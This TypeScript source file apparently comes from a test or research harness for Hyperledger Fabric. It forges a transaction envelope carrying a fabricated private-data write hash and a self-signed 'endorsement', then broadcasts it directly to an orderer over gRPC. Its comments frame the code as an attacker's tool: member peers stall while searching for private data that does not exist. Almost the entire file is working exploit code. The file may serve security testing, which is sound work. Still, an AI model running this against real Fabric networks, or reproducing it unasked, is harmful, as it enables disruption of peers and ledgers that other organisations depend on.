import { createHash, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import * as grpc from '@grpc/grpc-js';
import { common, ledger, msp, orderer, peer } from '@hyperledger/fabric-protos';

import type { IdentityFiles } from '@spindle/network';

import { type RawProposalSpec, newRawProposal, signWith } from './raw-proposal';

/** Who signs a forged endorsement: any key the attacker holds, e.g. its own mill's peer. */
export interface ForgedEndorser {
    mspId: string;
    identity: IdentityFiles;
}

/** What the forged transaction claims to write: a hashed write into one private data collection. */
export interface ForgedPrivateWrite {
    /** The committed definition's version, which validation checks before any policy. */
    chaincodeVersion: string;
    collection: string;
    key: string;
    value: string;
}

const sha256 = (data: Uint8Array | string): Buffer => createHash('sha256').update(data).digest();

/**
 * Builds a transaction envelope by hand whose only write is a HASHED write into a collection, its
 * private data existing nowhere, "endorsed" by whichever key the attacker holds, and signed by the
 * proposal's creator. No peer simulated it; validation will find it INVALID, but a member peer of
 * the collection still looks for its private data while committing the block.
 */
export async function newForgedPrivateWrite(
    spec: RawProposalSpec,
    endorser: ForgedEndorser,
    write: ForgedPrivateWrite,
): Promise<{ txId: string; envelope: common.Envelope }> {
    const proposal = newRawProposal(spec);

    const writeHash = new ledger.rwset.kvrwset.KVWriteHash();
    writeHash.setKeyHash(sha256(write.key));
    writeHash.setValueHash(sha256(write.value));
    const hashedRwset = new ledger.rwset.kvrwset.HashedRWSet();
    hashedRwset.setHashedWritesList([writeHash]);
    const collectionSet = new ledger.rwset.CollectionHashedReadWriteSet();
    collectionSet.setCollectionName(write.collection);
    collectionSet.setHashedRwset(hashedRwset.serializeBinary());
    // The hash of private data nobody has: a member peer can never find it.
    collectionSet.setPvtRwsetHash(sha256(randomBytes(32)));
    const namespaceSet = new ledger.rwset.NsReadWriteSet();
    namespaceSet.setNamespace(spec.chaincode);
    namespaceSet.setRwset(new ledger.rwset.kvrwset.KVRWSet().serializeBinary());
    namespaceSet.setCollectionHashedRwsetList([collectionSet]);
    const results = new ledger.rwset.TxReadWriteSet();
    results.setDataModel(ledger.rwset.TxReadWriteSet.DataModel.KV);
    results.setNsRwsetList([namespaceSet]);

    const response = new peer.Response();
    response.setStatus(200);
    const chaincodeId = new peer.ChaincodeID();
    chaincodeId.setName(spec.chaincode);
    chaincodeId.setVersion(write.chaincodeVersion);
    const action = new peer.ChaincodeAction();
    action.setResults(results.serializeBinary());
    action.setResponse(response);
    action.setChaincodeId(chaincodeId);
    const responsePayload = new peer.ProposalResponsePayload();
    // Fabric's proposal hash: channel header, signature header and the payload without its transient map.
    const proposalHeader = common.Header.deserializeBinary(proposal.header);
    responsePayload.setProposalHash(
        sha256(
            Buffer.concat([
                proposalHeader.getChannelHeader_asU8(),
                proposalHeader.getSignatureHeader_asU8(),
                proposal.payload,
            ]),
        ),
    );
    responsePayload.setExtension$(action.serializeBinary());
    const responsePayloadBytes = responsePayload.serializeBinary();

    const endorserIdentity = new msp.SerializedIdentity();
    endorserIdentity.setMspid(endorser.mspId);
    endorserIdentity.setIdBytes(readFileSync(endorser.identity.certificate));
    const endorserBytes = endorserIdentity.serializeBinary();
    const endorsement = new peer.Endorsement();
    endorsement.setEndorser(endorserBytes);
    endorsement.setSignature(await signWith(endorser.identity, Buffer.concat([responsePayloadBytes, endorserBytes])));

    const endorsedAction = new peer.ChaincodeEndorsedAction();
    endorsedAction.setProposalResponsePayload(responsePayloadBytes);
    endorsedAction.setEndorsementsList([endorsement]);
    const actionPayload = new peer.ChaincodeActionPayload();
    actionPayload.setChaincodeProposalPayload(proposal.payload);
    actionPayload.setAction(endorsedAction);
    const header = common.Header.deserializeBinary(proposal.header);
    const transactionAction = new peer.TransactionAction();
    transactionAction.setHeader(header.getSignatureHeader_asU8());
    transactionAction.setPayload(actionPayload.serializeBinary());
    const transaction = new peer.Transaction();
    transaction.setActionsList([transactionAction]);

    const payload = new common.Payload();
    payload.setHeader(header);
    payload.setData(transaction.serializeBinary());
    const payloadBytes = payload.serializeBinary();
    const envelope = new common.Envelope();
    envelope.setPayload(payloadBytes);
    envelope.setSignature(await signWith(spec.identity, payloadBytes));
    return { txId: proposal.txId, envelope };
}

/**
 * Sends an envelope straight to an orderer through AtomicBroadcast.Broadcast and resolves with
 * the orderer's status (200 when it accepted the envelope for ordering).
 */
export function broadcast(
    endpoint: string,
    tlsRootCertificate: string,
    envelope: common.Envelope,
): Promise<{ status: number; info: string }> {
    const client = new grpc.Client(endpoint, grpc.credentials.createSsl(readFileSync(tlsRootCertificate)));
    return new Promise((resolve, reject) => {
        const stream = client.makeBidiStreamRequest(
            '/orderer.AtomicBroadcast/Broadcast',
            (bytes: Uint8Array) => Buffer.from(bytes),
            (buffer: Buffer) => orderer.BroadcastResponse.deserializeBinary(new Uint8Array(buffer)),
            new grpc.Metadata(),
            { deadline: Date.now() + 30_000 },
        );
        stream.on('data', (response: orderer.BroadcastResponse) => {
            stream.end();
            client.close();
            resolve({ status: response.getStatus(), info: response.getInfo() });
        });
        stream.on('error', (error: Error) => {
            client.close();
            reject(error);
        });
        stream.write(envelope.serializeBinary());
    });
}
